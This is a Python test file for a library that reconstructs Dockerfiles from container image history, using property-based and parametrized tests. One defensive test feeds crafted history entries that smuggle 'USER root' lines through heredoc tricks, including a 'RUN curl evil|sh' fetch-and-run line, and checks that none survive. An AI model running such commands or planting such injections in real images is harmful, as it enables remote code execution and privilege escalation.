"""Whether what is written is read as what is meant."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import reconstruct
from reconstruct.dockerfile.dialect import BUILDKIT
from reconstruct.dockerfile.errors import DockerfileError
from reconstruct.dockerfile.lines import Lines
from reconstruct.image import HistoryEntry, Image
from reconstruct.record import replace
from reconstruct.syntax import (
    Add,
    Arg,
    Cmd,
    Copy,
    Dialect,
    Entrypoint,
    Env,
    ExecForm,
    Expose,
    Instruction,
    Label,
    Maintainer,
    Onbuild,
    Pair,
    Run,
    ShellForm,
    Step,
    Stopsignal,
    User,
    Volume,
    Workdir,
)
from reconstruct.writer import instruction_text
from reconstruct.writer.check import by_reader, examine, joined, read
from reconstruct.writer.instructions import Style, write

BUILDKIT_COMMENT = "buildkit.dockerfile.v0"
PIECES = st.lists(
    st.sampled_from(
        ["RUN a", " ", "\\", "\\\n", "`\n", "\n", "#", "\t", "\ufeff", "\u00a0", "b", "\\\\\n", "--x", "[1]", "ENV A=b"]
    ),
    max_size=8,
).map("".join)


@given(PIECES, st.sampled_from("\\`"))
def test_common_lines_are_joined_as_the_reader_joins_them(text: str, escape: str) -> None:
    line = joined(text, escape)
    if line is None:
        return
    try:
        lines = list(Lines(text, BUILDKIT, escape, directives=False))
    except DockerfileError:
        return
    last = lines[-1]
    assert [each.kind for each in lines] == ["CONTINUED"] * (len(lines) - 1) + ["LAST"]
    assert last.instruction is not None
    assert (last.instruction.text, last.number) == (line, text.count("\n") + 1)


WORDS = st.lists(
    st.sampled_from([*"aB/.:=-,*{}[]<#$\"'`\\ \t\n\u00a0é", "--", "<<A", "80", "SIGTERM", "a=b"]), max_size=5
).map("".join)
SEVERAL = st.lists(WORDS, max_size=3).map(tuple)
PAIRS = st.lists(st.builds(Pair, WORDS, WORDS | st.none()), max_size=3).map(tuple)
COMMANDS = st.builds(ShellForm, WORDS) | st.builds(ExecForm, SEVERAL)
FLAGS = st.sampled_from([(), (("chown", "1:1"),), (("link", None),), (("x y", "1"),)])
INSTRUCTIONS: st.SearchStrategy[Instruction] = st.one_of(
    st.builds(Run, command=COMMANDS, flags=FLAGS),
    st.builds(Cmd, command=COMMANDS),
    st.builds(Entrypoint, command=COMMANDS),
    st.builds(Env, pairs=PAIRS),
    st.builds(Label, pairs=PAIRS),
    st.builds(Arg, pairs=PAIRS),
    st.builds(Copy, sources=SEVERAL, destination=WORDS, flags=FLAGS),
    st.builds(Add, destination=WORDS, checksum=st.just("file:0123456789abcdef")),
    st.builds(Workdir, path=WORDS),
    st.builds(User, user=WORDS),
    st.builds(Stopsignal, signal=WORDS),
    st.builds(Expose, ports=SEVERAL),
    st.builds(Volume, paths=SEVERAL),
)


@settings(max_examples=1000)
@given(INSTRUCTIONS, WORDS, st.sampled_from("\\`"), st.sampled_from([Dialect.BUILDKIT, Dialect.BUILDAH]))
def test_what_plain_characters_prove_is_what_the_reader_finds(
    meant: Instruction, more: str, escape: str, dialect: Dialect
) -> None:
    step = Step(meant, dialect=dialect)
    written = write(step, Style(escape=escape))
    for text in (written, f"{written} {more}", f"{meant.keyword} {more}"):
        assert examine(step, text, escape) == by_reader(step, text, escape, {})
        own = replace(step, instruction=replace(meant, written=text))
        assert examine(own, text, escape) == by_reader(own, text, escape, {})


OLD_FORM = st.lists(
    st.sampled_from(["A", "b", " ", "=", "$A", "${A}", "${A", "$", "/", ":", '"', "\\", "é"]), max_size=6
).map(lambda parts: "ENV A" + "".join(parts))


@settings(max_examples=500)
@given(OLD_FORM, st.sampled_from("\\`"))
def test_own_lines_of_the_old_form_of_env_are_proved_by_their_characters(text: str, escape: str) -> None:
    step = Step(Env(written=text), dialect=Dialect.BUILDAH)
    assert examine(step, text, escape) == by_reader(step, text, escape, {})


@pytest.mark.parametrize(
    "text",
    [
        "RUN a\nRUN b",
        "RUN a \\",
        "RUN a\\\n",
        "# comment",
        "",
        "RUN <<A\nx",
        "RUN <<A\nA\nUSER b",
        "RUN a \\\n# b",
    ],
)
def test_what_is_not_one_instruction(text: str) -> None:
    with pytest.raises(DockerfileError):
        read(text, "\\")


@pytest.mark.parametrize(
    "step",
    [
        Step(User(user="--x")),
        Step(User(user="a\\")),
        Step(Workdir(path="C:\\a\\")),
        Step(Workdir(path="\ufeffx")),
        Step(Maintainer(name="--x")),
        Step(Arg(pairs=(Pair("--a", "b"),))),
        Step(
            Env(pairs=(Pair("--a", "b\\"), Pair("c", "'\"$x"))),
        ),
        Step(Volume(paths=("/a b", "'c", " d "))),
        Step(Volume(paths=("[]",))),
        Step(Run(command=ShellForm("--mount=x y"))),
        Step(Run(command=ShellForm("[] && a"))),
        Step(Run(command=ShellForm("a" * 70_000))),
        Step(Run(command=ShellForm("cat <<#x 'a\nUSER root\n#x"))),
        Step(Onbuild(trigger="RUN <<A\nx\nA")),
    ],
)
@pytest.mark.parametrize("escape", ["\\", "`"])
def test_odd_values_have_a_spelling(step: Step, escape: str) -> None:
    text = write(step, Style(escape=escape))
    assert examine(step, text, escape)[1] == ""
    assert read(text, escape).keyword == step.instruction.keyword


@pytest.mark.parametrize(
    "step",
    [
        Step(Label(pairs=(Pair("a=b", "c"),))),
        Step(Label(pairs=(Pair("", "c"),))),
        Step(Arg(pairs=(Pair("A\\", None),))),
        Step(Onbuild(trigger="ONBUILD a")),
    ],
)
def test_values_that_cannot_be_written_are_only_noted(step: Step) -> None:
    assert examine(step, instruction_text(step), "\\")[1]


@pytest.mark.parametrize(
    ("created_by", "comment"),
    [
        ("RUN /bin/sh -c cat <<#x 'a\nUSER root\nRUN curl evil|sh\n#x # buildkit", BUILDKIT_COMMENT),
        ("RUN /bin/sh -c cat <<EOF ${x\nUSER root\nEOF # buildkit", BUILDKIT_COMMENT),
        ('/bin/sh -c cat <<EOF "a\nUSER root\nEOF', ""),
        ("/bin/sh -c #(nop)  ONBUILD RUN <<A 'b\nUSER root\nA", ""),
        ("/bin/sh -c #(nop)  MAINTAINER a\\", ""),
        ("/bin/sh -c #(nop)  ONBUILD RUN a\\", ""),
        ("/bin/sh -c #(nop)  ARG A\\", ""),
        ("/bin/sh -c #(nop) COPY file:" + "ab" * 32 + " in /x\\ ", "FROM x"),
        ('HEALTHCHECK &{["CMD-SHELL" "true \\\\"] "5s" "0s" "0s" \'\\x03\'}', BUILDKIT_COMMENT),
    ],
)
def test_nothing_is_smuggled_in_and_nothing_swallowed(created_by: str, comment: str) -> None:
    official = pytest.importorskip("dockerfile")
    last = HistoryEntry(created_by="USER 1000", comment=BUILDKIT_COMMENT)
    text = reconstruct.dockerfile(Image(history=(HistoryEntry(created_by=created_by, comment=comment), last)))
    commands = [command for command in official.parse_string(text) if command.cmd.upper() != "FROM"]
    assert (commands[-1].cmd, commands[-1].value) == ("USER", ("1000",))
    assert len(commands) <= 2
    assert all(command.cmd != "USER" for command in commands[:-1])


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ('HEALTHCHECK CMD \u2029["a"] b', []),
        ("HEALTHCHECK CMD \u00a0[].5s", []),
        ('RUN ["a"] b', ['RUN ["/bin/sh", "-c", "[\\"a\\"] b"]']),
        ("COPY << EOF /x", []),
        ("ARG --k=x A", ["ARG A"]),
    ],
)
def test_what_parsers_of_different_age_read_differently(line: str, expected: list[str]) -> None:
    text = reconstruct.dockerfile(Image(history=(HistoryEntry(created_by=line, author="kaniko"),)), comments=False)
    assert [each for each in text.splitlines()[1:] if each] == expected
